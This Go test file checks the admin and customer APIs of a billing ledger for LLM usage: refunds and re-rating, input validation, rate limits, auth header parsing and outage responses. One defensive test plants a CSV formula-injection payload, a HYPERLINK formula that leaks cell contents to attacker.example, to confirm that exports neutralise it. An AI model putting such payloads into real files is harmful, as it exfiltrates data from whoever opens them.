package api_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/go-chi/chi/v5"
	"github.com/jackc/pgx/v5"

	"github.com/tollgate-dev/tollgate/ledger"
	"github.com/tollgate-dev/tollgate/ledger/api"
	"github.com/tollgate-dev/tollgate/ledger/ledgertest"
	"github.com/tollgate-dev/tollgate/meter/usage"
)

// TestRerateLeavesARefundedEventAlone: an event refunded in full and then
// re-rated downward (a promotion or discount added retroactively) must
// not leave the customer with a net credit for it: the refund already gave
// back the whole charge, and a refund is final. (Found by a review: the
// rerate entry credited the difference on top of the refund.)
func TestRerateLeavesARefundedEventAlone(t *testing.T) {
	s := newServer(t)
	cust, key, secret := s.customer(`{"name":"acme"}`)
	s.adm("POST", "/admin/v1/prices", `{"model":"m","currency":"USD","input":"10","output":"10","effective_from":"2026-01-01T00:00:00Z"}`, http.StatusCreated, nil)
	e := event(cust, key, "m", time.Date(2026, 1, 10, 12, 0, 0, 0, time.UTC), usage.Tokens{PromptTokens: 1_000_000})
	s.write(e) // 1M tokens × $10/M = $10

	var refund ledger.Entry
	s.adm("POST", "/admin/v1/events/"+e.ID+"/refund", `{"memo":"outage"}`, http.StatusCreated, &refund)
	if refund.Amount != "10" {
		t.Fatalf("refund = %s, want 10", refund.Amount)
	}
	// Finance corrects January's price retroactively (a promotion at $6/M)
	// and re-rates January.
	s.adm("POST", "/admin/v1/prices", `{"model":"m","currency":"USD","input":"6","output":"6","effective_from":"2026-01-02T00:00:00Z","effective_to":"2026-02-01T00:00:00Z"}`, http.StatusCreated, nil)
	s.adm("POST", "/admin/v1/rerate", `{"from":"2026-01-01","to":"2026-02-01"}`, http.StatusOK, nil)

	var b ledger.Balance
	s.call("GET", s.llm+"/v1/balance", secret, "", http.StatusOK, &b)
	// Charged 10, refunded 10: whatever the price, the customer owes 0 and
	// is owed 0 for this event.
	if dec(t, b.Balance).Sign() != 0 {
		t.Errorf("balance after refund then downward re-rate = %s %s, want 0: the refunded event was credited again (charges %s, credits %s)",
			b.Balance, b.Currency, b.Charges, b.Credits)
	}
	var res ledger.RerateResult
	s.adm("POST", "/admin/v1/rerate", `{"from":"2026-01-01","to":"2026-02-01"}`, http.StatusOK, &res)
	if res.Refunded != 1 || res.Adjusted != 0 {
		t.Errorf("re-rating again: %+v, want the refunded event counted as refunded and left alone", res)
	}
}

// TestNoRequestFeeForAnUnansweredRequest: docs/billing.md says "An upstream
// that refused or failed before answering bills nothing", and the README
// table says an upstream 4xx/5xx before streaming is recorded as
// upstream_error with "nothing billed": a model's request_fee is not
// charged on such an event either. (Found by a review: it was.)
func TestNoRequestFeeForAnUnansweredRequest(t *testing.T) {
	s := newServer(t)
	cust, key, _ := s.customer(`{"name":"acme"}`)
	s.adm("POST", "/admin/v1/prices", `{"model":"m","currency":"USD","input":"1","output":"1","request_fee":"0.01","effective_from":"2026-01-01T00:00:00Z"}`, http.StatusCreated, nil)
	e := event(cust, key, "m", time.Date(2026, 1, 10, 12, 0, 0, 0, time.UTC), usage.Tokens{})
	e.Status, e.HTTPStatus, e.Error, e.FinishReason = usage.StatusUpstreamError, 429, "upstream status 429", ""
	e.UsageSource = usage.SourceEstimated
	s.write(e)
	var ev ledger.RatedEvent
	s.adm("GET", "/admin/v1/events/"+e.ID, "", http.StatusOK, &ev)
	if dec(t, ev.Cost).Sign() != 0 {
		t.Errorf("an upstream 429 before any byte (status %s, no tokens) is charged %s %s; docs say nothing is billed", ev.Status, ev.Cost, ev.Currency)
	}
}

// TestTimesPastYear9998AreRefused: a statement for 9999-12 and a
// reconciliation whose range ends in the last hour of 9999 would end
// ("to": the next month, the next whole hour) in year 10000, which JSON
// cannot hold: they are refused with 400. (Found by a review: the answer
// was a 200 with an empty body.)
func TestTimesPastYear9998AreRefused(t *testing.T) {
	s := newServer(t)
	cust, _, secret := s.customer(`{"name":"acme"}`)
	for _, c := range []struct{ base, path, auth string }{
		{s.admin, "/admin/v1/customers/" + cust + "/statements/9999-12", adminToken},
		{s.llm, "/v1/statements/9999-12", secret},
		{s.admin, "/admin/v1/reconciliation?from=2026-01-01&to=9999-12-31T23:30:00Z", adminToken},
	} {
		status, body, err := send("GET", c.base+c.path, c.auth, "")
		if err != nil {
			t.Fatal(err)
		}
		if status != http.StatusBadRequest || !json.Valid(body) {
			t.Errorf("GET %s = %d %q; want 400 with a JSON error", c.path, status, body)
		}
	}
}

// TestExportRefusesYearZero: from=0000-01-01, a year Postgres does not
// have, is the client's error: 400 naming the parameter. (Found by a
// review: the export answered 500.)
func TestExportRefusesYearZero(t *testing.T) {
	s := newServer(t)
	status, body, err := send("GET", s.admin+"/admin/v1/export?from=0000-01-01&to=2026-01-01", adminToken, "")
	if err != nil {
		t.Fatal(err)
	}
	if status != http.StatusBadRequest || !bytes.Contains(body, []byte("from")) {
		t.Errorf("GET /admin/v1/export?from=0000-01-01&to=2026-01-01 = %d %s; want 400 naming from", status, bytes.TrimSpace(body))
	}
}

// TestCSVTextCellsCannotRunAsFormulas: memos are free text an operator
// types ("-10% goodwill", "=invoice 42", text pasted from a ticket). A
// spreadsheet opening a CSV evaluates a cell that starts with = + - @, tab
// or carriage return as a formula (CSV/formula injection), so the
// statement CSV (which the customer downloads from its own portal) and
// the ledger export prefix such text cells with ', and leave the amounts,
// negative ones too, as numbers.
func TestCSVTextCellsCannotRunAsFormulas(t *testing.T) {
	s := newServer(t)
	cust, key, secret := s.customer(`{"name":"acme"}`)
	memo := `=HYPERLINK("http://attacker.example/?"&A1,"click")`
	at := time.Date(2026, 3, 5, 0, 0, 0, 0, time.UTC)
	ctx := context.Background()
	s.write(event(cust, key, "@SUM(A1:A9)", at, usage.Tokens{PromptTokens: 1})) // unpriced: a statement line too
	if _, err := s.client().AddEntry(ctx, cust, ledger.KindCredit, ledger.EntryInput{Amount: "10", Memo: memo, EffectiveAt: at}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.client().AddEntry(ctx, cust, ledger.KindAdjustment, ledger.EntryInput{Amount: "-1", Memo: "-10% goodwill", EffectiveAt: at}); err != nil {
		t.Fatal(err)
	}

	check := func(what string, body []byte, amounts ...string) {
		t.Helper()
		recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		memoCol, amountCol := slices.Index(recs[0], "memo"), slices.Index(recs[0], "amount")
		modelCol := slices.Index(recs[0], "model")
		var memos, amountsSeen []string
		models := 0
		for _, r := range recs[1:] {
			if r[modelCol] == "'@SUM(A1:A9)" {
				models++
			}
			if m := r[memoCol]; m != "" {
				memos = append(memos, m)
				amountsSeen = append(amountsSeen, r[amountCol])
			}
			for i, c := range r {
				if i != amountCol && c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
					t.Errorf("%s: cell %s %q starts with a formula trigger; want it prefixed with '", what, recs[0][i], c)
				}
			}
		}
		if models != 1 {
			t.Errorf("%s: %d rows of model '@SUM(A1:A9), want 1", what, models)
		}
		slices.Sort(memos)
		if want := []string{"'-10% goodwill", "'" + memo}; !slices.Equal(memos, want) {
			t.Errorf("%s: memos %q, want %q", what, memos, want)
		}
		slices.Sort(amountsSeen)
		if !slices.Equal(amountsSeen, amounts) {
			t.Errorf("%s: amounts of the entries %q, want %q (numbers, not neutralised)", what, amountsSeen, amounts)
		}
	}
	// The customer's own statement CSV, with its key.
	_, b, err := send("GET", s.llm+"/v1/statements/2026-03?format=csv", secret, "")
	if err != nil {
		t.Fatal(err)
	}
	check("customer statement CSV", b, "1", "10")
	// The finance export.
	b = s.adm("GET", "/admin/v1/export?from=2026-03-01&to=2026-04-01", "", http.StatusOK, nil)
	check("ledger export CSV", b, "-1", "10")
}

// TestLongIndexedTextIsInvalid: an idempotency key, or the model of a
// price or an override, too long for Postgres's unique index on it (about
// 2.7 kB once compressed) is bad input, a 400 naming the field, not a 500
// from "index row size exceeds btree maximum". (Found by a review.)
func TestLongIndexedTextIsInvalid(t *testing.T) {
	s := newServer(t)
	cust, _, _ := s.customer(`{"name":"acme"}`)
	random := func(n int) string {
		b := make([]byte, n/2)
		_, _ = rand.Read(b)
		return hex.EncodeToString(b)
	}
	for _, c := range []struct{ path, body, field string }{
		{"/admin/v1/customers/" + cust + "/credits", `{"amount":"1","idempotency_key":"` + random(10000) + `"}`, "idempotency_key"},
		{"/admin/v1/customers/" + cust + "/adjustments", `{"amount":"1","idempotency_key":"` + random(10000) + `"}`, "idempotency_key"},
		{"/admin/v1/prices", `{"model":"` + random(10000) + `","currency":"USD","input":"1","output":"1","effective_from":"2026-01-01T00:00:00Z"}`, "model"},
		{"/admin/v1/customers/" + cust + "/overrides", `{"model":"` + random(10000) + `","discount_percent":"5","effective_from":"2026-01-01T00:00:00Z"}`, "model"},
		{"/admin/v1/customers/" + cust + "/overrides", `{"model":"` + random(10000) + `","price":{"currency":"USD","input":"1","output":"1"},"effective_from":"2026-01-01T00:00:00Z"}`, "model"},
	} {
		status, body, err := send("POST", s.admin+c.path, adminToken, c.body)
		if err != nil {
			t.Fatal(err)
		}
		invalid(t, "POST "+c.path+" with a 10 kB "+c.field, status, body, c.field)
	}
}

// TestTextFieldsNameTheField: a NUL byte, invalid UTF-8 or an overlong
// text in a name, memo, idempotency key or allowed model is refused with
// a 400 that names that field. Before, a NUL was refused by Postgres with
// "customer <id> is invalid: invalid byte sequence", naming neither, and a
// 900 kB memo (shown on the customer's statement) or 100 kB name was
// stored. (Found by a review.)
func TestTextFieldsNameTheField(t *testing.T) {
	s := newServer(t)
	cust, keyID, _ := s.customer(`{"name":"acme"}`)
	long := func(n int) string { return strings.Repeat("x", n) }
	for _, c := range []struct{ method, path, body, field string }{
		{"POST", "/admin/v1/customers", `{"name":"a\u0000b"}`, "name"},
		{"POST", "/admin/v1/customers", `{"name":"` + long(ledger.MaxNameLen+1) + `"}`, "name"},
		{"PATCH", "/admin/v1/customers/" + cust, `{"name":"a\u0000b"}`, "name"},
		{"GET", "/admin/v1/customers?name=a%00b", "", "name"},
		{"GET", "/admin/v1/customers?name=a%ffb", "", "name"},
		{"POST", "/admin/v1/customers/" + cust + "/keys", `{"name":"k\u0000"}`, "name"},
		{"POST", "/admin/v1/customers/" + cust + "/keys", `{"name":"` + long(ledger.MaxNameLen+1) + `"}`, "name"},
		{"PATCH", "/admin/v1/keys/" + keyID, `{"name":"k\u0000"}`, "name"},
		{"POST", "/admin/v1/customers/" + cust + "/keys", `{"name":"k","allowed_models":["m\u0000"]}`, "allowed_models"},
		{"POST", "/admin/v1/customers/" + cust + "/credits", `{"amount":"10","memo":"top-up\u0000"}`, "memo"},
		{"POST", "/admin/v1/customers/" + cust + "/credits", `{"amount":"10","memo":"` + long(ledger.MaxMemoLen+1) + `"}`, "memo"},
		{"POST", "/admin/v1/customers/" + cust + "/credits", `{"amount":"10","idempotency_key":"k\u0000"}`, "idempotency_key"},
	} {
		status, body, err := send(c.method, s.admin+c.path, adminToken, c.body)
		if err != nil {
			t.Fatal(err)
		}
		invalid(t, c.method+" "+c.path+" "+c.body[:min(len(c.body), 60)], status, body, c.field)
	}
	// At the limits, the texts are taken.
	s.adm("POST", "/admin/v1/customers", `{"name":"`+long(ledger.MaxNameLen)+`"}`, http.StatusCreated, nil)
	s.adm("POST", "/admin/v1/customers/"+cust+"/credits", `{"amount":"10","memo":"`+long(ledger.MaxMemoLen)+`"}`, http.StatusCreated, nil)
}

// TestCustomerReadsBoundedPerCustomer: any key holder can ask the
// customer API for reads that share the ledger database with the meter
// workers (a group_by=end_user over all time reads every event of theirs),
// as many at once as they like and for as long as they take. A customer
// now has at most api.SelfQueriesPerCustomer requests answered at once;
// the next wait their turn (the portal reads a page's parts in parallel),
// then get 429, without holding up another customer; and a read cut off at
// the query timeout is a 503 that says what to do, not a 500.
func TestCustomerReadsBoundedPerCustomer(t *testing.T) {
	ctx := context.Background()
	store, url := ledgertest.NewStoreURL(t)
	log := slog.New(slog.DiscardHandler)
	adm, err := api.NewAdmin(store, adminToken, log)
	if err != nil {
		t.Fatal(err)
	}
	a := httptest.NewServer(adm.Handler())
	t.Cleanup(a.Close)
	selfAt := func(query, queue time.Duration) string { // with a pool of its own
		store, err := ledger.Open(ctx, url)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(store.Close)
		self := api.NewSelf(store, ledgerKeys{store}, log)
		self.QueryTimeout, self.QueueTimeout = query, queue
		r := chi.NewRouter()
		self.Routes(r)
		l := httptest.NewServer(r)
		t.Cleanup(l.Close)
		return l.URL
	}
	patient := selfAt(time.Minute, time.Minute)
	impatient := selfAt(time.Minute, 200*time.Millisecond)
	hasty := selfAt(300*time.Millisecond, time.Minute)
	s := &server{t: t, store: store, admin: a.URL, llm: patient}
	_, _, secret := s.customer(`{"name":"a","currency":"USD"}`)
	_, _, other := s.customer(`{"name":"b","currency":"USD"}`)

	// The rollups are locked: every usage read waits until the end.
	conn, err := pgx.Connect(ctx, url)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(ctx)
	tx, err := conn.Begin(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tx.Exec(ctx, "LOCK TABLE usage_hourly IN ACCESS EXCLUSIVE MODE"); err != nil {
		t.Fatal(err)
	}
	waitingOnTheLock := func(want int) {
		t.Helper()
		for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
			var n int
			if err := conn.QueryRow(ctx, `SELECT count(*) FROM pg_locks WHERE NOT granted AND relation = 'usage_hourly'::regclass`).Scan(&n); err != nil {
				t.Fatal(err)
			}
			if n == want {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("%d usage reads waiting on the lock, want %d", n, want)
			}
		}
	}
	// Twice the customer's slots on the patient server, and its slots on
	// the impatient one: half of the first wait their turn.
	answered := make(chan int, 3*api.SelfQueriesPerCustomer+1)
	get := func(base, secret string) {
		status, _, _ := send("GET", base+"/v1/usage?group_by=day", secret, "")
		answered <- status
	}
	for range 2 * api.SelfQueriesPerCustomer {
		go get(patient, secret)
	}
	for range api.SelfQueriesPerCustomer {
		go get(impatient, secret)
	}
	waitingOnTheLock(2 * api.SelfQueriesPerCustomer)
	req, _ := http.NewRequest("GET", impatient+"/v1/balance", nil)
	req.Header.Set("Authorization", "Bearer "+secret)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	var e apiError
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") != "1" ||
		json.Unmarshal(b, &e) != nil || e.Error.Code != "rate_limit_exceeded" {
		t.Errorf("a request beyond the customer's %d that waited its turn in vain = %d (Retry-After %q) %s, want 429 rate_limit_exceeded",
			api.SelfQueriesPerCustomer, resp.StatusCode, resp.Header.Get("Retry-After"), b)
	}
	// Another customer is not held up: its read waits on the lock too.
	go get(impatient, other)
	waitingOnTheLock(2*api.SelfQueriesPerCustomer + 1)
	// A read past the query timeout.
	status, b, err := send("GET", hasty+"/v1/usage?group_by=day", secret, "")
	if err != nil {
		t.Fatal(err)
	}
	if status != http.StatusServiceUnavailable || json.Unmarshal(b, &e) != nil || e.Error.Code != ledger.EUnavailable ||
		!strings.Contains(e.Error.Message, "narrower range") {
		t.Errorf("a read past the query timeout = %d %s, want 503 unavailable asking for a narrower range", status, b)
	}
	if err := tx.Rollback(ctx); err != nil {
		t.Fatal(err)
	}
	for range 3*api.SelfQueriesPerCustomer + 1 {
		if status := <-answered; status != http.StatusOK {
			t.Errorf("a read held up by the lock or its turn ended %d, want 200 once the lock was gone", status)
		}
	}
}

// TestCustomerAPIBearerInAnyCase: the authentication scheme is
// case-insensitive (RFC 9110, section 11.1); the LLM routes read
// "bearer <key>", and the customer API answered it 401.
func TestCustomerAPIBearerInAnyCase(t *testing.T) {
	s := newServer(t)
	_, _, secret := s.customer(`{"name":"acme"}`)
	for _, scheme := range []string{"Bearer ", "bearer ", "BEARER "} {
		if status := getAuthorized(t, s.llm+"/v1/balance", scheme+secret); status != http.StatusOK {
			t.Errorf("Authorization: %s<key> = %d, want 200", scheme, status)
		}
	}
	if status, _, _ := send("GET", s.llm+"/v1/balance", "x"+secret, ""); status != http.StatusUnauthorized {
		t.Errorf("a wrong key = %d, want 401", status)
	}
}

// TestCustomerAPITakesTheKeyAsTheLLMRoutesDo: the LLM routes take a key
// as x-api-key, x-goog-api-key or ?key= (as Anthropic's and Google's SDKs
// send it), and the README says so of every route; the customer API read
// only Authorization and answered those 401.
func TestCustomerAPITakesTheKeyAsTheLLMRoutesDo(t *testing.T) {
	s := newServer(t)
	_, _, secret := s.customer(`{"name":"acme"}`)
	for _, c := range []struct {
		name   string
		header string
		value  string
		query  string
		want   int
	}{
		{"x-api-key", "X-Api-Key", secret, "", http.StatusOK},
		{"x-goog-api-key", "X-Goog-Api-Key", secret, "", http.StatusOK},
		{"?key=", "", "", "?key=" + url.QueryEscape(secret), http.StatusOK},
		{"a wrong x-api-key", "X-Api-Key", "x" + secret, "", http.StatusUnauthorized},
		{"Authorization wins over x-api-key", "X-Api-Key", secret, "", http.StatusUnauthorized},
	} {
		req, err := http.NewRequest("GET", s.llm+"/v1/balance"+c.query, nil)
		if err != nil {
			t.Fatal(err)
		}
		if c.header != "" {
			req.Header.Set(c.header, c.value)
		}
		if c.name == "Authorization wins over x-api-key" {
			req.Header.Set("Authorization", "Bearer x"+secret)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != c.want {
			t.Errorf("%s: %d %s, want %d", c.name, resp.StatusCode, b, c.want)
		}
		if c.want == http.StatusUnauthorized && !strings.Contains(string(b), "x-api-key") {
			t.Errorf("%s: the 401 does not say how to send the key: %s", c.name, b)
		}
	}
}

// TestAdminAPIBearerInAnyCase: the admin API read only "Bearer <token>",
// answering "bearer <token>" 401 while the LLM routes and the customer
// API take the scheme in any case (RFC 9110, section 11.1). It also
// refused a token after two spaces, which RFC 9110 allows ("1*SP") and
// the other two routes take.
func TestAdminAPIBearerInAnyCase(t *testing.T) {
	s := newServer(t)
	for _, scheme := range []string{"Bearer ", "bearer ", "BEARER ", "Bearer  ", "Bearer \t"} {
		if status := getAuthorized(t, s.admin+"/admin/v1/customers", scheme+adminToken); status != http.StatusOK {
			t.Errorf("Authorization: %s<token> = %d, want 200", scheme, status)
		}
	}
	for _, auth := range []string{"Basic " + adminToken, "Bearer x" + adminToken, "bearer " + adminToken + "x", "", adminToken} {
		if status := getAuthorized(t, s.admin+"/admin/v1/customers", auth); status != http.StatusUnauthorized {
			t.Errorf("Authorization: %q = %d, want 401", auth, status)
		}
	}
}

// getAuthorized GETs url with the Authorization header as given (send
// prefixes "Bearer ") and returns the status.
func getAuthorized(t *testing.T, url, authorization string) int {
	t.Helper()
	req, err := http.NewRequest("GET", url, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", authorization)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// fixedKeys answers the key lookups it was given, as the gateway's key
// cache does while the database is down.
type fixedKeys map[string]usage.KeyState

func (k fixedKeys) LookupKey(secret string) (usage.KeyState, bool) {
	st, ok := k[secret]
	return st, ok
}

// TestDatabaseDownIsUnavailable: with the ledger database refusing
// connections, the admin and customer APIs answered 500 internal, which
// clients and the CLI cannot tell from a bug; they answer 503 unavailable.
// (Found by review.)
func TestDatabaseDownIsUnavailable(t *testing.T) {
	store, dbURL := ledgertest.NewStoreURL(t)
	ctx := context.Background()
	log := slog.New(slog.DiscardHandler)
	adm, err := api.NewAdmin(store, adminToken, log)
	if err != nil {
		t.Fatal(err)
	}
	c, err := store.CreateCustomer(ctx, ledger.CustomerInput{Name: "down"})
	if err != nil {
		t.Fatal(err)
	}
	_, secret, err := store.CreateKey(ctx, c.ID, ledger.KeyInput{Name: "k"})
	if err != nil {
		t.Fatal(err)
	}
	st, _, _, err := store.KeyState(ctx, usage.KeyHash(secret))
	if err != nil {
		t.Fatal(err)
	}
	a := httptest.NewServer(adm.Handler())
	defer a.Close()
	r := chi.NewRouter()
	api.NewSelf(store, fixedKeys{secret: st}, log).Routes(r)
	l := httptest.NewServer(r)
	defer l.Close()

	allow := ledgertest.RefuseConnections(t, dbURL)
	for _, c := range []struct{ base, path, auth string }{
		{a.URL, "/admin/v1/customers", adminToken},
		{a.URL, "/admin/v1/customers/" + c.ID + "/balance", adminToken},
		{l.URL, "/v1/balance", secret},
		{l.URL, "/v1/requests", secret},
	} {
		status, body, err := send("GET", c.base+c.path, c.auth, "")
		var e apiError
		_ = json.Unmarshal(body, &e)
		if err != nil || status != http.StatusServiceUnavailable || e.Error.Code != ledger.EUnavailable {
			t.Errorf("GET %s with the database down = %d %s, %v; want 503 unavailable", c.path, status, body, err)
		}
	}
	allow()
	status, body, err := send("GET", a.URL+"/admin/v1/customers", adminToken, "")
	if err != nil || status != http.StatusOK {
		t.Errorf("GET /admin/v1/customers with the database back = %d %s, %v; want 200", status, body, err)
	}
}
